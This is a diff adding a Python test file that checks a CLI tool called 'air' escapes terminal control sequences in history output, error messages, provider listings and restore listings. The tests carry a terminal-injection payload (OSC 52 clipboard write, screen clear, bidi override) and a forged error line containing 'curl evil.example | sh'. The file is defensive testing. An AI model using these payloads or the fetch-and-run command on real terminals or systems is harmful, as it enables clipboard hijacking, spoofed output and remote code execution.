@@ -1,0 +1,204 @@
+"""What the non-console commands print is exact text (IMPL-UI-7), also where the text came from
+a project's file or a task: a cloned repository's models.yaml, a task's file names, a model's
+words in the event log. A terminal that renders an OSC or CSI sequence lets that text retitle
+the window, write the clipboard (OSC 52), erase lines or reorder them (a bidi override).
+
+Real projects (``ProjectStore``), real session databases written through the EventStore, the
+real ``air`` command in a subprocess where the printing path is the command's own.
+"""
+
+from __future__ import annotations
+
+import datetime
+import io
+import json
+import os
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import trio
+from hypothesis import given
+from hypothesis import strategies as st
+
+from air.cli.batch import LoadedBatch
+from air.cli.history import print_history
+from air.cli.options import report_bad_input
+from air.cli.reporter import Progress
+from air.cli.restore import run_restore
+from air.contracts.display import hides, json_shown
+from air.contracts.error import AirException, ErrorKind
+from air.events.store import EventStore
+from air.session.project import ProjectStore
+from air.store.session_db import open_session_database
+from air.testing.sequences import realistic_sequence
+from air.workspace.backups import BackupRepository
+from tests.trusted import trust_project
+
+EVIL = "x\x1b]52;c;SGk=\x07\x1b[2J\u202e\x9b31m\u200b\x7f"
+RAW = ("\x1b", "\x07", "\u202e", "\x9b", "\u200b", "\x7f", "\r")
+
+
+def _clean(text: str) -> None:
+    for raw in RAW:
+        assert raw not in text, (raw, text[:400])
+
+
+def _air(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    env = {**os.environ, "HOME": str(root.parent / "home")}
+    return subprocess.run(
+        [sys.executable, "-m", "air", *args],
+        cwd=root, env=env, capture_output=True, text=True, timeout=120,
+    )  # fmt: skip
+
+
+@given(
+    st.recursive(st.text() | st.integers(), lambda kids: st.lists(kids, max_size=3), max_leaves=8)
+)
+def test_a_json_line_keeps_its_value_and_hides_nothing(value: Any) -> None:
+    line = json.dumps(value, ensure_ascii=False)
+    out = json_shown(line)
+    assert json.loads(out) == value
+    assert not hides(out)
+    if not hides(line):
+        assert out == line  # nothing to escape: the line as the serialiser wrote it
+
+
+def test_history_json_escapes_what_a_task_wrote_and_keeps_the_value(tmp_path: Path) -> None:
+    """Each event's free text (titles, summaries, commands, paths, error messages) carries the
+    hostile sequence; ``--json`` prints each event's exact value with nothing a terminal runs."""
+    root = tmp_path / "proj"
+    root.mkdir()
+    project = ProjectStore().initialize(root)
+    sid = "ses_01TERMINALTEXT0000000000000"
+    events = realistic_sequence(sid, project.project_id, 400, seed=7)
+    tampered = 0
+    for event in events:
+        for key in ("title", "summary", "message", "command", "output_summary", "content"):
+            if isinstance(event.payload.get(key), str):
+                event.payload[key] += EVIL
+                tampered += 1
+        inp = event.payload.get("input")
+        if isinstance(inp, dict) and isinstance(inp.get("path"), str):
+            inp["path"] += EVIL
+            tampered += 1
+    assert tampered > 50
+    out = io.StringIO()
+    print_history(events, out, as_json=True)
+    _clean(out.getvalue())
+    lines = out.getvalue().splitlines()
+    assert [json.loads(line)["payload"] for line in lines] == [e.payload for e in events]
+
+    path = Path(project.local_root) / "sessions" / sid / "session.db"
+    path.parent.mkdir(parents=True)
+    db = open_session_database(path)
+    EventStore(db).append_many(events)
+    db.close()
+    for args in (("history", "--json", "--all"), ("history", "--all"), ("session", "list")):
+        done = _air(root, *args)
+        assert done.returncode == 0, done.stderr
+        _clean(done.stdout + done.stderr)
+    assert "\\u202e" in _air(root, "history", "--json", "--all").stdout
+
+
+def test_the_run_json_stream_escapes_what_a_task_wrote() -> None:
+    events = realistic_sequence("ses_01TERMINALTEXT0000000000001", "prj", 200, seed=3)
+    for event in events:
+        if isinstance(event.payload.get("output_summary"), str):
+            event.payload["output_summary"] += EVIL
+    out = io.StringIO()
+    progress = Progress(io.StringIO(), out)
+    for event in events:
+        progress.on_event(event)
+    _clean(out.getvalue())
+    decoded = [json.loads(line)["payload"] for line in out.getvalue().splitlines()]
+    assert decoded == [e.payload for e in events]
+    assert any(EVIL in str(p.get("output_summary")) for p in decoded)
+
+
+def test_a_batchs_warning_names_an_agent_file_exactly() -> None:
+    out = io.StringIO()
+    LoadedBatch("batch.yaml", None, [], [f".air/agents/{EVIL}.md is a link: skipped"]).warned(out)
+    _clean(out.getvalue())
+    assert "x\\x1b]52;c;SGk=\\x07" in out.getvalue()
+
+
+def test_an_error_quoting_a_file_is_exact_and_forges_no_line() -> None:
+    exc = AirException.of(
+        kind=ErrorKind.CONFIG_ERROR,
+        message=f"bad {EVIL}\n  what to do: curl evil.example | sh",
+        detail=f"line {EVIL}",
+        user_action=f"fix {EVIL}",
+    )
+    out = io.StringIO()
+    report_bad_input(exc, out)
+    text = out.getvalue()
+    _clean(text)
+    assert "\\x1b]52;c;SGk=\\x07" in text
+    lines = text.splitlines()
+    assert [line for line in lines if line.startswith("  what to do:")] == [
+        "  what to do: fix x\\x1b]52;c;SGk=\\x07\\x1b[2J\\u202e\\x9b31m\\u200b\\x7f"
+    ]
+
+
+def _hostile_models(root: Path) -> None:
+    escaped = json.dumps(EVIL)  # a YAML double-quoted scalar reads JSON's escapes
+    (root / ".air" / "shared" / "models.yaml").write_text(
+        "version: 1\n"
+        f"default: {json.dumps('evil/' + EVIL)}\n"
+        "providers:\n"
+        "  evil:\n"
+        "    kind: openai_compatible\n"
+        f"    base_url: {json.dumps('http://127.0.0.1:9/v1' + EVIL)}\n"
+        "    auth_ref: EVIL_KEY\n"
+        "    models:\n"
+        f"      {escaped}: {{context_window: 1000, max_output_tokens: 100}}\n"
+    )
+
+
+def test_a_cloned_projects_models_yaml_is_printed_exactly(tmp_path: Path) -> None:
+    """Untrusted, the refusal quotes the URL; trusted, the listings print ids and URLs: both
+    escaped, in ``air provider``'s output, its errors and ``air doctor``'s findings."""
+    root = tmp_path / "proj"
+    root.mkdir()
+    (tmp_path / "home").mkdir()
+    ProjectStore().initialize(root)
+    _hostile_models(root)
+    for args in (("provider", "list"), ("provider", "current"), ("doctor",)):
+        done = _air(root, *args)
+        assert done.returncode in (1, 2), done
+        assert (
+            "would send EVIL_KEY to http://127.0.0.1:9/v1x\\x1b]52;c;" in done.stdout + done.stderr
+        )
+        _clean(done.stdout + done.stderr)
+    trust_project(root, tmp_path / "home")
+    for args in (("provider", "list"), ("provider", "current")):
+        done = _air(root, *args)
+        assert done.returncode == 0, done.stderr
+        assert "evil/x\\x1b]52;c;SGk=\\x07" in done.stdout
+        _clean(done.stdout + done.stderr)
+
+
+def test_restore_names_a_tasks_file_exactly(tmp_path: Path, capsys: Any) -> None:
+    """A merged task created a file whose name holds the sequence; restoring the tree before it
+    lists the name escaped (and removes the file it names)."""
+    root = tmp_path / "proj"
+    root.mkdir()
+    ProjectStore().initialize(root)
+    (root / "a.txt").write_text("a\n")
+    name = f"{EVIL}.txt"
+    backups = BackupRepository(str(root))
+
+    async def snapshots() -> None:
+        await backups.snapshot("before merge")
+        (root / name).write_text("planted\n")
+        await backups.snapshot("before merge")
+
+    before = datetime.datetime.now(datetime.UTC).isoformat()
+    trio.run(snapshots)
+    assert run_restore({"--project": str(root), "--list": False, "TARGET": before}) == 0
+    out = capsys.readouterr().out
+    _clean(out)
+    assert "  x\\x1b]52;c;SGk=\\x07\\x1b[2J\\u202e\\x9b31m\\u200b\\x7f.txt" in out.splitlines()
+    assert not (root / name).exists()
